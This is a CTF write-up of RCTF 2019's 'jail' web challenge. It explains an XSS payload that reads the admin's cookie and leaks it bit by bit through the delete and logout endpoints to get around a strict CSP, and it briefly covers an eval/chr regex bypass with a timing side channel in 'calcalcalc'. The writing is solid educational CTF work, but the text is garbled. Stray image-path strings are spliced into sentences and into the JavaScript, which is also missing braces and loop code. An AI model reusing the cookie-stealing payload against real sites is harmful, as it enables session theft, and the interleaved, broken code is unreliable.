Jail Writeup

For the intended solution, go to this writeup

Ok so I found an (un)intended way to solve jail challenge at RCTF 2019. First let’s analyze the web application - here if it’s still up

It’s a web app written in PHP that requires the user to login and allows him to post messages for himself which are listed only to himself, send feedback to theadmin with a post id (a headless browser instance checks them), to upload an avatar (can upload arbitrary content with any extension), to delete all posts and to logout.


Those are the endpoints

GET  /?action=login
POST /?action=login
GET  /?action=signup
POST /?action=signup

logged in only
GET  / - list all messages
POST / - post message with param message
GET  /?action=post&id=003ab6a68ba176a916c5d16510e5c4d7 - get message
GET  /?action=feedback - feedback page
POST /?action=feedback - post feedback with `id` and `captcha` which was a proof of work
GET  /?action=profile
POST /?action=profile
GET  /?action=index&method=delete
GET  /?action=index&method=logout

Well playing around I could see that messages are not stripped of html in any way. So the solution must be some type of XSS. Loading a message page, there was a hint.

Set-Cookie: hint1=flag1_is_in_cookie
Set-Cookie: hint2=meta_refresh_is_banned_in_server

Clearly XSS. But trying something I was quickly blocked by the following CSP:sandbox allow-scripts allow-same-origin
base-uri 'none'
default-src 'self'
script-src 'unsafe-inline' 'self'
connect-src 'none'
object-src 'none'
frame-src 'none'
font-src data: 'self'
style-src 'unsafe-inline' 'self'Everything looked like it was blocked. Nothing external available. But I saw some hope at script-src 'unsafe-inline' 'self'. Hmm maybe not, as the following script was prepended to my message content and was blocking redirects:

window.addEventListener("beforeunload", function (event) {
  event.returnValue = "Are you sure want to exit?"
  return "Are you sure want to exit?"
Object.freeze(document.location) </script>

So let’s go back the the feedback page. There I would enter the post id, solve the captcha and “some admin would check the link by hand”(headless browser lol). As the html from the post wasn’t escaped, the admin would run our html and javascript. Meaning I could exfiltrate his cookies and do other stuff with his browser.

feedback page preview

Ok. How can I exfiltrate the cookie without anything external? It was a bit obvious I could just send it internally. Just get the admin’s cookie, replace his cookie with mine (meaning he would be logged as me) and just post a message with his cookie. Well, pretty good plan BUT the sandbox property of CSP wouldn’t allow that (sandbox allow-scripts allow-same-origin). We would be needing allow-forms.

At least I can make get requests with an image. Maybe… This was an outrageous idea, but do you remember the delete all endpoint? It’s a GET. And logout is also a GET. Maybe I can exfiltrate the cookie bit by bit. 1 goes to delete all, 0 goes to logout, and if it fails, nothing would happen so I would have to retry. Let’s do some math. Let’s say the flag has 40 chars. It’s printable ASCII so we can assume the leftmost bit is 0. 0xxxxxxx. We would have to send 40 * 7 = 280 requests. Pretty doable.

I tried it.


v =document.cookie;
s = v.charCodeAt(i).toString(2).padStart(8, '0')[j];

window.onload = function() {

method = null;
if (s === '1') {
    method = 'delete';
} else if(s ==='0') {
    method = 'logout';
} else {
    method = 'bad';

document.write('<img src="https://jail.2019.rctf.rois.io/?action=index&method=' + method + '">');


IT FREAKING WORKS. I had to automate it and make it bad ass. Not a big deal. Remember the captcha from feedback? I pregenerated all of them, put them in a marshal file and loaded them at the start. 165M of hashmap.

The plan is as follows:

  1. Login if not logged in
  2. Post the message and get post id
  3. Send post id to feedback
  4. Wait 5 seconds then check the main page
    • if logged out: return 0
    • elif no posts found: return 1 # posts deleted
    • else retry


It worked. After like 20-30 minutes we got the flag. You can check out the source at jail/bf.py. I used comments :))

FLAG IS RCTF{welc0me_t0_the_chaos_w0r1d}

Sorry for spamming you guys at RCTF. I hope you enjoyed this alternative solution.


I found a solution which I think was too easy for calcalcalc.Basically one could use eval() with chr() to escape this regex check !/^[0-9a-z\[\]\(\)\+\-\*\/ \t]+$/i.test(str). The payload would run in python,and by using sleep and a binary search I was able to get theflag.

Source code at calc/main.py

FLAG ISRCTF{watch_Kemurikusa_to_c4lm_d0wn}